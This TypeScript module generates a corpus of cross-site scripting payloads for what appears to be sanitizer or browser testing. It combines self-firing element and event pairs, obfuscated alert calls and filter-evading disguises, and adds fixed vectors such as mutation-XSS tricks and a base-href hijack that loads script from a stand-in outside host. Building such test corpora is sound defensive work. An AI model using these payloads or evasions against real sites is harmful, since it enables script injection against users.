/** A piece of hostile markup, and what it is known by. */
export interface Payload {
  readonly id: string;
  readonly payload: string;
}

/** What calls for attention without anybody touching it: an element, and the event that it fires by itself. */
const triggers: readonly ((handler: string) => string)[] = [
  (handler) => `<img src=x onerror=${handler}>`,
  (handler) => `<image src=x onerror=${handler}>`,
  (handler) => `<svg onload=${handler}>`,
  (handler) => `<svg><g onload=${handler}></g></svg>`,
  (handler) => `<svg><image href=x onerror=${handler}></svg>`,
  (handler) => `<svg><animate onbegin=${handler} attributeName=x dur=1s>`,
  (handler) => `<svg><set onbegin=${handler} attributeName=x dur=1s>`,
  (handler) => `<video src=x onerror=${handler}></video>`,
  (handler) => `<video><source src=x onerror=${handler}></video>`,
  (handler) => `<audio src=x onerror=${handler}></audio>`,
  (handler) => `<iframe onload=${handler}></iframe>`,
  (handler) => `<object data=x onerror=${handler}></object>`,
  (handler) => `<input autofocus onfocus=${handler}>`,
  (handler) => `<details open ontoggle=${handler}>open</details>`,
  (handler) => `<link rel=stylesheet href=x onerror=${handler}>`,
  (handler) => `<script src=x onerror=${handler}></script>`,
  (handler) => `<body onload=${handler}>`,
  (handler) => `<style onload=${handler}></style>`,
];

/** Ways of writing a handler that calls alert. */
const handlers: readonly string[] = [
  'alert(1)',
  '"alert(1)"',
  "'alert(1)'",
  '"alert&lpar;1&rpar;"',
  '"&#97;lert(1)"',
  '"&#x61;&#x6c;ert(1)"',
  '"alert`1`"',
  '"(0,alert)(1)"',
  "'window[`al`+`ert`](1)'",
  '"globalThis.alert(1)"',
  '"[1].map(alert)"',
  '"top.alert?.(1);alert(1)"',
  '"\\u0061lert(1)"',
  '"Function(`alert(1)`)()"',
];

/** Ways of writing a tag that browsers read alike and simple filters do not. */
const disguises: readonly ((markup: string) => string)[] = [
  (markup) => markup,
  (markup) => markup.replace(/^<(\w+) /, (_, tag: string) => `<${tag.toUpperCase()}/`),
  (markup) => markup.replace(/ on(\w+)=/, (_, event: string) => `\n\tON${event.toUpperCase()} =\n`),
  (markup) => `"><${'/x'}>${markup}`,
];

const whole: readonly string[] = [
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script >alert(1)</script\t>',
  '<script/x>alert(1)</script>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><script>alert&#40;1)</script></svg>',
  '<iframe src="javascript:parent.alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<form action="javascript:alert(1)"><input type=submit autofocus onfocus=this.click()></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template><img src=x onerror=alert(1)>',
  '<base href="//elsewhere.example/"><script src=x></script>',
];

/**
 * Invented payloads of the kinds that fire by themselves in a page without defence; which of them do is measured
 * beside the run, in the browser that it runs in.
 */
export function inventPayloads(): Payload[] {
  const made = triggers.flatMap((trigger) =>
    handlers.flatMap((handler) => disguises.map((disguise) => disguise(trigger(handler)))),
  );
  return [...whole, ...made].map((payload, index) => ({ id: `invented:${index}`, payload }));
}
